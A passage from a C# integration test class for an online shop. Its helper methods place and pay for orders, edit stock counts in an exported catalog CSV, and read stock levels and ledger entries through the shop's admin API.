        return (store, handle, sku);
    }

    /// <summary>A sale through the shop: cart, checkout, payment.</summary>
    private static async Task SellAsync(StoreDriver store, string sku, int quantity)
    {
        var orderId = await store.NewPendingOrderAsync(sku, quantity);
        await store.Owner.PostJsonAsync($"/admin/orders/{orderId}/pay", new { paymentReference = "psp" }).ExpectAsync(HttpStatusCode.OK);
    }

    /// <summary>The exported file with the SKU's count in main changed in the spreadsheet (its basis left as exported).</summary>
    private static string EditCount(string exported, string sku, int from, int to)
    {
        var row = $",{sku},main,{from},0,{from},0\r\n";
        Assert.Contains(row, exported, StringComparison.Ordinal);
        return exported.Replace(row, $",{sku},main,{to},0,{from},0\r\n", StringComparison.Ordinal);
    }

    /// <summary>The row number a spreadsheet shows for the SKU's line (the header is row 1).</summary>
    private static int RowOf(string csv, string sku) =>
        csv.Split("\r\n").Select((line, index) => (line, index)).Single(pair => pair.line.Contains($",{sku},", StringComparison.Ordinal)).index + 1;

    private static async Task<(int OnHand, int Reserved, int Available)> LevelAsync(StoreDriver store, string sku)
    {
        var level = (await store.StockAsync(sku))["zones"]!.AsArray().Single(zone => zone!.Value<string>("zone") == "main")!;
        return (level.Value<int>("onHand"), level.Value<int>("reserved"), level.Value<int>("available"));
    }

    /// <summary>The SKU's ledger lines in main, newest first.</summary>
    private static async Task<JsonNode> LedgerAsync(StoreDriver store, string sku) =>
        (await store.Owner.GetAsync($"/admin/stock/{sku}/main/ledger?take=50").ExpectAsync(HttpStatusCode.OK))["entries"]!;

    private static async Task<string> ExportAsync(StoreDriver store)
    {
        using var response = await store.Owner.GetAsync("/admin/catalog/export");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return await response.Content.ReadAsStringAsync();
    }
}
